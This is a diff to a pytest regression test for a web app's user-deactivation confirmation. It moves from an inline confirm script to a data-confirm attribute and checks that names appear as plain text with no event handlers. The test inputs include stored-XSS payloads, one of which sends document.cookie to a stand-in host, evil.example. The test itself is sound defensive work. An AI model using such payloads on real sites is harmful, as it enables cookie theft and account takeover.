@@ -1,10 +1,8 @@
-"""The Users list puts each name into an inline `confirm(...)` script. HTML escaping is not enough
-there: the browser decodes entities in the attribute before running it, so a name with a quote
-would end the JavaScript string (stored XSS, and a broken confirmation for names like O'Brien)."""
+"""The Users list asks "Deactivate <name>?" before sending. The question sits in a data-confirm
+attribute that static/js/app.js reads as plain text (no inline script: the Content-Security-Policy
+forbids it), so a name with quotes or markup is shown as typed and never runs as code."""
 from __future__ import annotations
 
-import json
-import re
 from html.parser import HTMLParser
 
 import pytest
@@ -15,29 +13,26 @@ NASTY = ["O'Brien", "x'); fetch('//evil.example/?c='+document.cookie); ('",
          '</script><script>alert(1)</script>', 'Amy "Quotes" & \\ backslash']
 
 
-class _OnSubmit(HTMLParser):
+class _Attributes(HTMLParser):
     def __init__(self):
         super().__init__()
-        self.scripts: list[str] = []
+        self.confirms: list[str] = []
+        self.handlers: list[str] = []
 
     def handle_starttag(self, tag, attrs):
         for name, value in attrs:
-            if name == "onsubmit":
-                self.scripts.append(value)  # as the browser hands it to JavaScript
+            if name == "data-confirm":
+                self.confirms.append(value)  # as the browser hands it to JavaScript
+            if name.startswith("on"):
+                self.handlers.append(name)
 
 
 @pytest.mark.parametrize("name", NASTY)
-def test_deactivate_confirm_holds_the_name_as_one_js_string(client, login, users, name):
+def test_deactivate_confirm_holds_the_name_as_plain_text(client, login, users, name):
     users.admin.name = name
     _db.session.commit()
     login("owner")
-    parser = _OnSubmit()
+    parser = _Attributes()
     parser.feed(client.get("/users").get_data(as_text=True))
-    confirms = [s for s in parser.scripts if "Deactivate" in s]
-    assert confirms, "no Deactivate confirmation on the page"
-    messages = []
-    for script in confirms:
-        match = re.fullmatch(r"\s*return confirm\((\".*\")\);\s*", script, re.S)
-        assert match, f"not a single string literal: {script!r}"
-        messages.append(json.loads(match.group(1)))
-    assert f"Deactivate {name}? They will no longer be able to sign in." in messages
+    assert f"Deactivate {name}? They will no longer be able to sign in." in parser.confirms
+    assert parser.handlers == []
